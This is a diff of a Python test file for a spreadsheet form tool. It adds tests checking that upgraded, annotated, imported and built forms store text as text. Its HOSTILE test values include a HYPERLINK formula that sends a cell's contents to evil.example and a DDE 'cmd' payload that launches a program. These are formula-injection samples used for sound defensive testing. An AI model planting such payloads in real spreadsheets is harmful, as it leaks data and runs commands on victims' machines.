@@ -23,6 +23,7 @@ from casegen.sheetcells import put
 from helpers import convert, digest, leftovers, run, sample_case
 
 BCL, BRIEF = "bcl-service-optimisation", "brief-neighbourhood-working-model"
+OLD_BCL = Path(__file__).parent / "fixtures" / "layout1" / f"{BCL}.xlsx"  # a form of an older layout, to upgrade
 # What a form's text may start with that an office suite would run, or take for a formula, if not typed as text.
 HOSTILE = {"title": '=HYPERLINK("http://evil.example/?x="&B3,"click")', "sponsor": "+1+cmd|' /C calc'!A0",
            "lead": "-2+3", "finance_lead": "@SUM(A1:A2)"}
@@ -36,6 +37,10 @@ def forms(tmp_path, programme):
         case = sample_case(name, programme)
         write_form(case.kind, folder / f"{name}.xlsx", programme, case)
     return folder
+
+
+def old_form(folder: Path, name: str = f"{BCL}.xlsx") -> Path:
+    return Path(shutil.copy(OLD_BCL, folder / name))
 
 
 def hand_typed(path: Path, text: str = "Typed by hand in Word") -> Path:
@@ -246,14 +251,26 @@ def test_an_excluded_forms_text_is_text_on_the_problems_sheet(tmp_path, programm
     assert messages and all(c.data_type == "s" for c in messages)
 
 
-def test_annotated_upgraded_imported_and_new_forms_keep_text_as_text(tmp_path, programme):
+def title_cell(path: Path):
+    return next(c for row in load_workbook(path)["Project"].iter_rows() for c in row if c.value == HOSTILE["title"])
+
+
+def test_an_upgraded_form_keeps_text_as_text(tmp_path):
+    form = old_form(tmp_path)
+    wb = load_workbook(form)
+    cell = next(c for row in wb["Project"].iter_rows() for c in row if c.value == "Service Optimisation")
+    cell.value, cell.data_type = HOSTILE["title"], "s"
+    wb.save(form)
+    result = run("upgrade", form)
+    assert result.exit_code == 0 and "upgraded" in result.output, result.output
+    assert title_cell(form).data_type == "s"
+
+
+def test_annotated_imported_and_new_forms_keep_text_as_text(tmp_path, programme):
     form = hostile_form(tmp_path, programme)
-    title = lambda path: next(c for row in load_workbook(path)["Project"].iter_rows() for c in row
-                              if c.value == HOSTILE["title"])
+    title = title_cell
     assert run("validate", form, "--annotate").exit_code in (0, 1)
     assert title(tmp_path / f"{BCL}.checked.xlsx").data_type == "s"
-    assert run("upgrade", form).exit_code in (0, 1)
-    assert title(form).data_type == "s"
     assert run("build", form, "-o", tmp_path / "out").exit_code == 0
     assert run("import", tmp_path / "out" / f"{BCL}.docx", "-o", tmp_path / "imported.xlsx").exit_code in (0, 1)
     assert title(tmp_path / "imported.xlsx").data_type == "s"
@@ -330,7 +347,7 @@ def test_a_place_casegen_may_not_write_is_one_line(forms):
 
 @pytest.mark.parametrize("command", ["portfolio", "new", "import", "upgrade"])
 def test_a_full_disk_is_one_line_and_leaves_the_files_as_they_were(command, forms, tmp_path, monkeypatch):
-    form = forms / f"{BCL}.xlsx"
+    form = shutil.copy(OLD_BCL, forms / f"{BCL}.xlsx")
     tracker = tmp_path / "tracker.xlsx"
     assert run("portfolio", forms, "-o", tracker).exit_code == 0
     before = digest(tmp_path)
@@ -357,7 +374,7 @@ def test_a_full_disk_is_one_line_and_leaves_the_files_as_they_were(command, form
 
 
 def test_a_form_name_too_long_for_its_backup_is_one_line_and_the_form_is_left(tmp_path, programme):
-    form = write_form("bcl", tmp_path / ("x" * 240 + ".xlsx"), programme, sample_case(BCL, programme))
+    form = old_form(tmp_path, "x" * 240 + ".xlsx")
     before = digest(form)
     result = run("upgrade", form)
     one_line_error(result, "the name is too long")
@@ -367,7 +384,8 @@ def test_a_form_name_too_long_for_its_backup_is_one_line_and_the_form_is_left(tm
 # Upgrade: links and leftovers
 
 def test_upgrade_through_a_link_upgrades_the_file_and_keeps_the_link(tmp_path, programme):
-    real = write_form("bcl", tmp_path / "real" / "case.xlsx", programme, sample_case(BCL, programme))
+    (tmp_path / "real").mkdir()
+    real = old_form(tmp_path / "real", "case.xlsx")
     link = tmp_path / "link.xlsx"
     link.symlink_to(real)
     result = run("upgrade", link)
@@ -377,7 +395,7 @@ def test_upgrade_through_a_link_upgrades_the_file_and_keeps_the_link(tmp_path, p
 
 
 def test_upgrade_sweeps_what_a_killed_upgrade_left_but_nothing_else(tmp_path, programme):
-    form = write_form("bcl", tmp_path / "case.xlsx", programme, sample_case(BCL, programme))
+    form = old_form(tmp_path, "case.xlsx")
     stale = tmp_path / ".case.xlsx.abc123.part"
     stale.write_bytes(b"half a form")
     other = tmp_path / ".other.xlsx.abc123.part"
